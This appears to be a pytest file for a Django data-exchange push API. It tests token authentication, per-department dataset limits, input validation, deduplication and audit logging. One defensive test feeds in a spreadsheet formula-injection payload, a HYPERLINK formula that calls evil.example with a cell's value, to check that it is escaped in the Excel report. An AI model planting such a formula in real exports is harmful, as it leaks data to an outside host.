"""The push API: a department token, one dataset, clear 4xx errors and nothing stored on bad input."""

from __future__ import annotations

import json

import pytest
from django.test import Client

from fangpin.exchange import actions
from fangpin.exchange.models import Delivery, DepartmentToken
from fangpin.lib import idcard


@pytest.fixture
def medical_token(world) -> str:
    from fangpin.accounts.models import User

    _, token = actions.create_token(
        department="medical_security", name="结算推送", actor=User.objects.get(username="zhou_secadmin")
    )
    return token


def push(token: str | None, dataset: str, body: object) -> object:
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token}"} if token else {}
    return Client().post(
        f"/api/v1/exchange/events/{dataset}",
        data=json.dumps(body),
        content_type="application/json",
        **headers,
    )


def event(person_id: str, n: int = 1) -> dict[str, object]:
    return {
        "settlement_id": f"API{n}",
        "id_number": person_id,
        "settle_date": "2026-10-12",
        "visit_type": "inpatient",
        "total_cost": 80000,
        "basic_paid": 30000,
        "critical_paid": 8000,
        "assistance_paid": 2000,
        "self_pay": 40000,
    }


def test_a_valid_event_is_stored_and_linked(world, medical_token: str) -> None:
    response = push(
        medical_token, "ms_settlement", {"period": "2026-10", "rows": [event(world.persons["own"].id_number)]}
    )
    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["read"], body["accepted"], body["rejected"]) == (1, 1, 0)
    assert Delivery.objects.get().linked == 1


def test_pushing_the_same_event_again_does_not_duplicate_it(world, medical_token: str) -> None:
    body = {"period": "2026-10", "rows": [event(world.persons["own"].id_number)]}
    push(medical_token, "ms_settlement", body)
    again = push(medical_token, "ms_settlement", body).json()
    assert again["status"] == "duplicate" or again["duplicates"] == 1


def test_a_bad_row_comes_back_with_its_reason(world, medical_token: str) -> None:
    # a broken ID of someone the registry does not know: linkage finds nobody, the row comes back
    # (a registry person's broken ID is linked: tests/exchange/test_broken_ids.py)
    bad = idcard.with_wrong_check_char("11010519491231002X")
    body = push(medical_token, "ms_settlement", {"period": "2026-10", "rows": [event(bad)]}).json()
    assert body["rejected"] == 1 and body["reasons"] == {"id_check_char": 1}


@pytest.mark.parametrize("token", [None, "fp_not-a-real-token"])
def test_no_or_a_wrong_token_is_401_and_nothing_is_stored(world, token: str | None) -> None:
    response = push(token, "ms_settlement", {"period": "2026-10", "rows": [event("11010519491231002X")]})
    assert response.status_code == 401
    assert not Delivery.objects.exists()


def test_a_revoked_token_no_longer_works(world, medical_token: str) -> None:
    DepartmentToken.objects.update(active=False)
    assert (
        push(
            medical_token, "ms_settlement", {"period": "2026-10", "rows": [event("11010519491231002X")]}
        ).status_code
        == 401
    )


def test_a_token_pushes_only_its_own_departments_datasets(world, medical_token: str) -> None:
    row = {
        "report_id": "A1",
        "id_number": "11010519491231002X",
        "event_date": "2026-10-01",
        "injury": "minor",
        "loss_yuan": 100,
    }
    assert push(medical_token, "em_accident", {"period": "2026-10", "rows": [row]}).status_code == 403
    assert not Delivery.objects.exists()


@pytest.mark.parametrize(
    ("dataset", "body", "status"),
    [
        ("ms_settlement", {"rows": [{}]}, 422),  # no period
        ("ms_settlement", {"period": "2026-10", "rows": []}, 422),  # no rows
        ("ms_settlement", {"period": "Oct 2026", "rows": [{"settlement_id": "x"}]}, 422),
        (
            "ms_settlement",
            {"period": "2026-10", "rows": [{"settlement_id": "x", "diagnosis": "secret"}]},
            400,
        ),
        ("ms_enrollment", {"period": "2026-10", "rows": [{"id_number": "x"}]}, 400),  # a snapshot, not events
        ("no_such_dataset", {"period": "2026-10", "rows": [{"a": 1}]}, 400),
    ],
)
def test_bad_requests_get_a_clear_4xx_and_store_nothing(
    world, medical_token: str, dataset: str, body: object, status: int
) -> None:
    response = push(medical_token, dataset, body)
    assert response.status_code == status
    assert response.json()["detail"]
    assert not Delivery.objects.exists()


def test_the_openapi_schema_documents_the_push_endpoint(world, client_for) -> None:
    schema = client_for("chen_analyst").get("/api/v1/openapi.json").json()
    assert "/api/v1/exchange/events/{dataset}" in schema["paths"]
    assert client_for("chen_analyst").get("/api/v1/docs").status_code == 200


def test_a_pushed_formula_reaches_the_delivery_report_as_inert_text(world, medical_token, client_for) -> None:
    """Formula injection (issue #14.4): a hostile pushed value must not become a live cell in Excel."""
    import io

    import openpyxl

    hostile = '=HYPERLINK("http://evil.example/?id="&E2,"x")'
    person = world.persons["own"].id_number
    rows = [event(person, 1) | {"settle_date": hostile}, event(person, 2) | {"settle_date": "-5"}]
    push(medical_token, "ms_settlement", {"period": "2026-10", "rows": rows})
    delivery = Delivery.objects.get()
    response = client_for("wang_county").get(
        f"/exchange/deliveries/{delivery.pk}/report.xlsx", {"purpose": "review"}
    )
    detail = list(openpyxl.load_workbook(io.BytesIO(response.content))["拒收明细"].iter_rows(min_row=2))
    hostile_cell, number_cell = (r[4] for r in detail)
    assert hostile_cell.data_type != "f" and hostile_cell.value == "'" + hostile
    assert number_cell.value == "-5"  # text that is just a number is not quoted


def test_a_push_is_audited_with_its_delivery_and_the_leads_it_left_open(
    world, medical_token, audit_rows
) -> None:
    response = push(
        medical_token, "ms_settlement", {"period": "2026-10", "rows": [event(world.persons["own"].id_number)]}
    )
    delivery = Delivery.objects.get()
    (pushed,) = audit_rows("EVENTS_PUSHED")
    assert pushed.object_id == str(delivery.pk) and pushed.actor_username.startswith("token:")
    assert pushed.data == {
        "dataset": "ms_settlement",
        "period": "2026-10",
        "rows": 1,
        "leads": response.json()["leads"],
    }
    (imported,) = audit_rows("DELIVERY_IMPORTED")
    assert imported.id < pushed.id  # the import is audited where it happens, the push ties it together


def test_a_refused_push_is_audited_as_denied_and_not_as_a_push(world, medical_token, audit_rows) -> None:
    row = {
        "report_id": "A1",
        "id_number": "11010519491231002X",
        "event_date": "2026-10-01",
        "injury": "minor",
    }
    assert push(medical_token, "em_accident", {"period": "2026-10", "rows": [row]}).status_code == 403
    (denied,) = audit_rows("ACCESS_DENIED", object_id="em_accident")
    assert denied.outcome == "denied" and not audit_rows("EVENTS_PUSHED")
